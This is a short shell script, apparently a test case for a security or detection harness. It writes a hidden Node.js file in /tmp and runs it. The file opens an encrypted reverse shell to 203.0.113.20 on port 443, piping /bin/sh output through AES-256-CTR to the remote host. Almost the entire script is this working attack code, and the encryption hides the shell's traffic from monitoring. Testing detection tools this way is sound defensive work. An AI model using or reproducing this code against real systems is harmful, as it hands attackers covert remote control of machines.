#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.e.js <<'END'
const c = require("crypto"), net = require("net"), { spawn } = require("child_process"); const k = Buffer.alloc(32, 7), iv = Buffer.alloc(16, 9);
const s = net.connect(443, "203.0.113.20", () => { const p = spawn("/bin/sh", [], { stdio: "pipe" }); s.on("data", d => p.stdin.write(d)); p.stdout.pipe(c.createCipheriv("aes-256-ctr", k, iv)).pipe(s, { end: false }); p.on("exit", () => process.exit()); });
END
node /tmp/.e.js
test -e /tmp/reached
took_place
